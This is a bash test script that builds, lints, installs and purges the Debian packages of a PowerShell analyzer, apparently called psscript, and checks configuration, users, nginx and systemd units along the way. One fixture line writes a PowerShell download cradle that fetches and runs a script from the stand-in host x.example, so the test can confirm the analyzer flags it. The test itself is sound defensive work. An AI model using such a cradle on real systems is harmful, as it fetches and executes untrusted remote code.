#!/usr/bin/env bash
# tests/package/run.sh: the release, as a packager and an administrator meet it. TAP output.
# make distcheck (the tarball builds and passes make check on its own, PSS_SHARED_DIR unset),
# then the Debian packages built from that tarball unpacked in a temporary folder (so nothing
# lands beside the checkout; tests skipped inside, the suite runs them), lintian, and as root
# the cycle: apt-get install, the installed programs run, nginx -t accepts the installed site,
# systemd-analyze verify accepts the installed units, remove keeps the configuration, purge
# leaves only what debian/psscript.README.Debian says it keeps (the psscript system user; the
# database is never the package's).
# PSS_SKIP_DISTCHECK=1 builds the packages from `make dist` instead (saves about 3 minutes).
set -uo pipefail
source "$(dirname "$0")/../../scripts/lib.sh"
source "$(dirname "$0")/../tap.sh"
started=$SECONDS

skip_rest() { echo "ok $((n + 1)) - the rest of the package cycle # SKIP $*"; n=$((n + 1)); done_testing; exit; }
check() { # NAME CMD...: ok when CMD succeeds; its output (last 25 lines) as comments otherwise
	local name=$1; shift
	if "$@" >"$out" 2>&1; then ok "$name"; else notok "$name"; tail -n 25 "$out" | sed 's/^/#   /'; fi
}
for c in dpkg-buildpackage dh lintian; do
	command -v "$c" >/dev/null || { echo "1..0 # SKIP $c not installed (apt-get install debhelper dpkg-dev lintian)"; exit 0; }
done
[ -f "$PSS_BUILD/Makefile" ] || { echo "not ok 1 - a configured build in $PSS_BUILD (scripts/lib.sh build)"; echo "1..1"; exit 1; }

W=$(mktemp -d /tmp/pss-package.XXXXXX)
installed=""
cleanup() {
	# a failed run must not leave the packages on the machine
	if [ -n "$installed" ]; then
		apt-get purge -y -qq -o DPkg::Lock::Timeout=300 psscript psscript-analyze >/dev/null 2>&1
	fi
	rm -rf "$W" "$out"
}
trap cleanup EXIT
ver=$(sed -n 's/^PACKAGE_VERSION = //p' "$PSS_BUILD/Makefile")
tarball=psscript-$ver.tar.gz

# 1. The tarball.
t0=$SECONDS
if [ -z "${PSS_SKIP_DISTCHECK:-}" ]; then
	check "make distcheck passes from the tarball alone (PSS_SHARED_DIR unset)" \
		env -u PSS_SHARED_DIR make -C "$PSS_BUILD" -j"$(nproc)" distcheck
	grep -E '^(# (TOTAL|PASS|SKIP|FAIL|ERROR)|SKIP:)' "$out" | sed 's/^/#   distcheck: /'
else
	check "make dist" make -s -C "$PSS_BUILD" dist
fi
echo "# tarball: $((SECONDS - t0)) s"
[ -f "$PSS_BUILD/$tarball" ] || skip_rest "no $tarball"
mv "$PSS_BUILD/$tarball" "$W/$tarball"

# 2. The packages, built from that tarball as scripts/package (the README's one command) does.
t0=$SECONDS
check "scripts/package: dpkg-buildpackage -us -uc -b builds from the tarball" \
	env PSS_PACKAGE_TARBALL="$W/$tarball" PSS_PACKAGE_OUT="$W/out" \
	DEB_BUILD_OPTIONS="nocheck noautodbgsym parallel=$(nproc)" "$PSS_TOP/scripts/package"
echo "# dpkg-buildpackage: $((SECONDS - t0)) s"
deb=$W/out/psscript_$ver-1_$(dpkg --print-architecture).deb
adeb=$W/out/psscript-analyze_$ver-1_$(dpkg --print-architecture).deb
[ -f "$deb" ] && [ -f "$adeb" ] || skip_rest "the packages were not built"
tar -xzOf "$W/$tarball" "psscript-$ver/debian/changelog" >"$W/changelog"
debver=$(dpkg-parsechangelog -l "$W/changelog" -SVersion)
check "debian/changelog ($debver) carries configure.ac's version ($ver)" test "${debver%-*}" = "$ver"
check "the package's version is debian/changelog's" test "$(dpkg-deb -f "$deb" Version)" = "$debver"
check "psscript depends on the libraries by their Debian names" \
	bash -c "dpkg-deb -f '$deb' Depends | grep -q 'libpq5' && dpkg-deb -f '$deb' Depends | grep -q 'libfcgi0ldbl' && dpkg-deb -f '$deb' Depends | grep -q 'libhiredis'"
check "psscript recommends PostgreSQL 15, Redis and nginx" \
	test "$(dpkg-deb -f "$deb" Recommends)" = "nginx, postgresql-15, redis-server"
check "psscript-analyze needs neither libpq nor hiredis nor libfcgi" \
	bash -c "! dpkg-deb -f '$adeb' Depends | grep -qE 'libpq|hiredis|fcgi'"
check "/etc/psscript/psscript.conf is a conffile" bash -c "dpkg-deb -I '$deb' conffiles | grep -qx /etc/psscript/psscript.conf"
check "the shipped configuration fills in no secret" \
	bash -c "dpkg-deb --fsys-tarfile '$deb' | tar -xO ./etc/psscript/psscript.conf | { ! grep -E '^[[:space:]]*(DB_PASSWORD|REDIS_PASSWORD|DATABASE_URL|REDIS_URL)='; }"

t0=$SECONDS
lintian -I --fail-on error,warning --tag-display-limit 0 "$W"/out/psscript_"$ver"-1_*.changes >"$W/lintian.txt" 2>&1
lrc=$?
sed -e '/running with root privileges/d' -e 's/^/#   lintian: /' "$W/lintian.txt"
if [ $lrc -eq 0 ]; then ok "lintian: no error, no warning that is not overridden"; else notok "lintian (exit $lrc)"; fi
echo "# lintian: $((SECONDS - t0)) s"

# 3. Install, use, remove, purge: root only, and never over an installation of the machine's own.
[ "$(id -u)" -eq 0 ] || skip_rest "installing needs root (CI runs the suite as root on a throwaway machine)"
if dpkg-query -W -f='${Status}' psscript psscript-analyze 2>/dev/null | grep -q 'installed'; then
	skip_rest "psscript is installed on this machine already: not touching it"
fi
install_packages systemd	# systemd-analyze
scan() { # the paths named *psscript* outside the folders of users, tests and the development stacks
	find / -xdev \( -path /proc -o -path /sys -o -path /tmp -o -path /var/tmp -o -path /work \
		-o -path /root -o -path /home -o -path '/var/lib/psscript-dev' -o -path '/var/lib/dpkg' \
		-o -path /var/cache -o -path /var/log \) -prune -o -name '*psscript*' -print 2>/dev/null | sort
}
scan >"$W/before.txt"
t0=$SECONDS
installed=yes
check "apt-get install ./psscript_*.deb ./psscript-analyze_*.deb" \
	env DEBIAN_FRONTEND=noninteractive apt-get install -y -o DPkg::Lock::Timeout=300 --no-install-recommends "$deb" "$adeb"
echo "# install: $((SECONDS - t0)) s"
check "the psscript system user exists, without a login shell" \
	bash -c "getent passwd psscript | grep -qE ':(/usr/sbin/nologin|/sbin/nologin)$' && getent group psscript >/dev/null"
check "/etc/psscript/psscript.conf is root:psscript 0640" test "$(stat -c '%U:%G %a' /etc/psscript/psscript.conf)" = "root:psscript 640"
check "psscript version prints configure.ac's version" test "$(psscript version)" = "psscript $ver"
cat >"$W/clean.ps1" <<'EOF'
<#
.SYNOPSIS
Lists the file system drives.
#>
function Get-DiskReport {
    param([string]$Name = 'C')
    Get-PSDrive -Name $Name -PSProvider FileSystem
}
EOF
printf 'Invoke-Expression (New-Object Net.WebClient).DownloadString("http://x.example/a.ps1")\n' >"$W/cradle.ps1"
check "psscript-analyze: a clean script exits 0" psscript-analyze "$W/clean.ps1"
expect "psscript-analyze: a download cradle is an error, exit 1" 1 "PSSAvoidDownloadCradle" psscript-analyze "$W/cradle.ps1"
expect "psscript analyze (the server's binary) writes SARIF" 1 '"version":"2.1.0"' psscript analyze --format sarif "$W/cradle.ps1"
check "the psscript user reads the shipped configuration: psscript config check" \
	runuser -u psscript -- env PSSCRIPT_CONFIG=/etc/psscript/psscript.conf psscript config check
check "nothing is enabled at installation" bash -c "! ls -d /etc/systemd/system/*/psscript* 2>/dev/null | grep -q ."

# psscript-migrate's command, as its unit runs it (user, configuration), against a private
# PostgreSQL named through the environment (which wins over the file): the installed binary
# finds the installed migrations.
exec_start=$(sed -n 's/^ExecStart=//p' /lib/systemd/system/psscript-migrate.service)
unit_user=$(sed -n 's/^User=//p' /lib/systemd/system/psscript-migrate.service)
unit_conf=$(sed -n 's/^Environment=PSSCRIPT_CONFIG=//p' /lib/systemd/system/psscript-migrate.service)
chmod 0755 "$W"	# PostgreSQL runs as postgres, the migration as psscript
pg_ok=""
for try in 1 2 3; do	# a free port may be taken before PostgreSQL binds it: another one then
	pgport=$(free_port $((25432 + RANDOM % 4000)))
	if (pg_start "$W/pgstate" "$pgport") >>"$W/pg.log" 2>&1; then pg_ok=yes; break; fi
done
if [ -n "$pg_ok" ]; then
	check "psscript-migrate's ExecStart ($exec_start) applies every migration as $unit_user" \
		runuser -u "$unit_user" -- env PSSCRIPT_CONFIG="$unit_conf" DB_HOST="$W/pgstate/run" DB_PORT="$pgport" \
		DB_USER=postgres DB_NAME=psscript $exec_start
	expect "psscript migrate status: nothing pending" 0 "0019" runuser -u "$unit_user" -- env \
		PSSCRIPT_CONFIG="$unit_conf" DB_HOST="$W/pgstate/run" DB_PORT="$pgport" DB_USER=postgres \
		DB_NAME=psscript psscript migrate status
	pg_stop "$W/pgstate"
else
	notok "a private PostgreSQL for the migrations starts"; sed 's/^/#   /' "$W/pg.log" | tail -5
fi

# The installed site, inside a minimal nginx.conf (the system's nginx configuration is not
# touched); only the certificate lines point at a throw-away certificate.
mkdir -p "$W/nginx/tmp" && tls_cert "$W" >/dev/null 2>&1
sed -e "s|/etc/ssl/certs/psscript.crt|$W/tls/server.crt|; s|/etc/ssl/private/psscript.key|$W/tls/server.key|" \
	/etc/nginx/sites-available/psscript.conf >"$W/nginx/site.conf"
cat >"$W/nginx/nginx.conf" <<EOC
pid $W/nginx/nginx.pid;
events {}
http {
	client_body_temp_path $W/nginx/tmp; fastcgi_temp_path $W/nginx/tmp; proxy_temp_path $W/nginx/tmp;
	uwsgi_temp_path $W/nginx/tmp; scgi_temp_path $W/nginx/tmp;
	include $W/nginx/site.conf;
}
EOC
check "the installed site differs from the one tested only by its certificate lines" \
	bash -c "diff /etc/nginx/sites-available/psscript.conf '$W/nginx/site.conf' | grep -c '^>' | grep -qx 2"
check "nginx -t accepts the installed site (and its fastcgi include)" \
	nginx -t -p "$W/nginx" -c "$W/nginx/nginx.conf" -e "$W/nginx/error.log"

# systemd-analyze verify loads the installed units by name from /lib/systemd/system; any
# message is a failure.
for u in psscript.target psscript-migrate.service psscript-fcgi@1.service psscript-worker.service; do
	check "systemd-analyze verify $u (installed)" bash -c "systemd-analyze verify --man=no '$u' 2>&1 | { ! grep .; }"
done

t0=$SECONDS
check "apt-get remove" env DEBIAN_FRONTEND=noninteractive apt-get remove -y -o DPkg::Lock::Timeout=300 psscript psscript-analyze
check "remove took the programs" bash -c "! test -e /usr/bin/psscript && ! test -e /usr/bin/psscript-analyze && ! test -e /usr/share/psscript"
check "remove kept the configuration" test -f /etc/psscript/psscript.conf
check "apt-get purge" env DEBIAN_FRONTEND=noninteractive apt-get purge -y -o DPkg::Lock::Timeout=300 psscript psscript-analyze
installed=""
echo "# remove and purge: $((SECONDS - t0)) s"
check "purge: dpkg knows neither package" bash -c "! dpkg-query -W -f='\${Status}\n' psscript psscript-analyze 2>/dev/null | grep -v '^unknown ok not-installed' | grep -q ."
check "purge removed /etc/psscript and the permissions postinst set" \
	bash -c "! test -e /etc/psscript && ! dpkg-statoverride --list | grep -q psscript"
scan >"$W/after.txt"
check "purge left no path named *psscript* that was not there before" \
	bash -c "comm -13 '$W/before.txt' '$W/after.txt' | { ! grep .; }"
check "purge kept what it says it keeps: the psscript system user" bash -c "getent passwd psscript >/dev/null"

echo "# package cycle: $((SECONDS - started)) s"
done_testing
